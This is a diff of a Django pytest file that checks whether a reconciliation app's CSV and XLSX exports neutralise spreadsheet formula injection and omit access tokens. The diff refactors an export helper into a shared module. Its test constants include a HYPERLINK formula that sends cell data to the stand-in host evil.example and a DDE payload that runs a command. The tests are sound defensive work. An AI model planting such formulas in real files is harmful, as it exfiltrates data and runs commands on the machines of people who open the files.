@@ -11,7 +11,6 @@ from decimal import Decimal
 from typing import Any
 
 import pytest
-from django.test import Client
 from django.utils import timezone
 from openpyxl import load_workbook  # type: ignore[import-untyped]
 
@@ -33,11 +32,13 @@ from tests.factories import make_match
 from tests.factories import make_transaction
 from tests.factories import make_user
 from tests.factories import make_vendor
+from tests.helpers import CSV_FORMAT
+from tests.helpers import XLSX_FORMAT
+from tests.helpers import export_every_column
 from tests.helpers import logged_in_client
 
 pytestmark = pytest.mark.django_db
 
-CSV_FORMAT, XLSX_FORMAT = "0", "1"
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
 DDE_FILE = '=cmd|" /C calc"!A0.pdf'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -55,21 +56,6 @@ EXPORTABLE = (
     "decision",
     "routingrule",
 )
-
-
-def _export(
-    client: Client, model: str, file_format: str, extra: dict[str, str] | None = None
-) -> Any:
-    url = f"/admin/reconciliation/{model}/export/"
-    page = client.get(url)
-    assert page.status_code == 200, url
-    names = re.findall(
-        r'<input[^>]*type="checkbox"[^>]*name="([^"]+resource_[^"]+)"', page.content.decode()
-    )
-    form = {"format": file_format, "resource": "0", **{n: "on" for n in names}, **(extra or {})}
-    response = client.post(url, form)
-    assert response.status_code == 200, response.content[:500]
-    return response
 
 
 def _csv_cells(response: Any) -> list[str]:
@@ -129,7 +115,9 @@ def hostile(workspace: Workspace) -> Workspace:
 @pytest.mark.parametrize("model", EXPORTABLE)
 def test_csv_exports_have_no_formula_cell(hostile: Workspace, model: str) -> None:
     auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
-    cells = _csv_cells(_export(logged_in_client(auditor), model, CSV_FORMAT))
+    cells = _csv_cells(
+        export_every_column(logged_in_client(auditor), model, file_format=CSV_FORMAT)
+    )
     live = [c for c in cells if c.startswith(TRIGGERS) and not PLAIN_NUMBER.match(c)]
     assert live == []
 
@@ -137,7 +125,9 @@ def test_csv_exports_have_no_formula_cell(hostile: Workspace, model: str) -> Non
 @pytest.mark.parametrize("model", EXPORTABLE)
 def test_xlsx_exports_have_no_formula_cell(hostile: Workspace, model: str) -> None:
     auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
-    cells = _xlsx_cells(_export(logged_in_client(auditor), model, XLSX_FORMAT))
+    cells = _xlsx_cells(
+        export_every_column(logged_in_client(auditor), model, file_format=XLSX_FORMAT)
+    )
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     live = [
         c.value
@@ -151,13 +141,20 @@ def test_xlsx_exports_have_no_formula_cell(hostile: Workspace, model: str) -> No
 
 def test_the_hostile_names_are_exported_as_text(hostile: Workspace) -> None:
     auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
-    documents = _csv_cells(_export(logged_in_client(auditor), "document", CSV_FORMAT))
+    documents = _csv_cells(
+        export_every_column(logged_in_client(auditor), "document", file_format=CSV_FORMAT)
+    )
     assert "'" + DDE_FILE in documents
     vendors = [
-        c.value for c in _xlsx_cells(_export(logged_in_client(auditor), "vendor", XLSX_FORMAT))
+        c.value
+        for c in _xlsx_cells(
+            export_every_column(logged_in_client(auditor), "vendor", file_format=XLSX_FORMAT)
+        )
     ]
     assert "'" + HYPERLINK in vendors
-    transactions = _csv_cells(_export(logged_in_client(auditor), "transaction", CSV_FORMAT))
+    transactions = _csv_cells(
+        export_every_column(logged_in_client(auditor), "transaction", file_format=CSV_FORMAT)
+    )
     assert "'@SUM(A1:A9)" in transactions
     assert [c for c in transactions if "12.5" in c] == ["-12.50"]  # a number stays a number
 
@@ -177,7 +174,7 @@ def test_the_connection_export_holds_no_token_material(
         "connectionresource_refresh_token_ciphertext": "on",
         "connectionresource_cursor": "on",
     }
-    response = _export(client, "connection", file_format, forged)
+    response = export_every_column(client, "connection", file_format=file_format, extra=forged)
     body = response.content
     text = body.decode("latin-1")
     for secret in (ACCESS_TOKEN, REFRESH_TOKEN, "cursor-page-token-abcdef"):
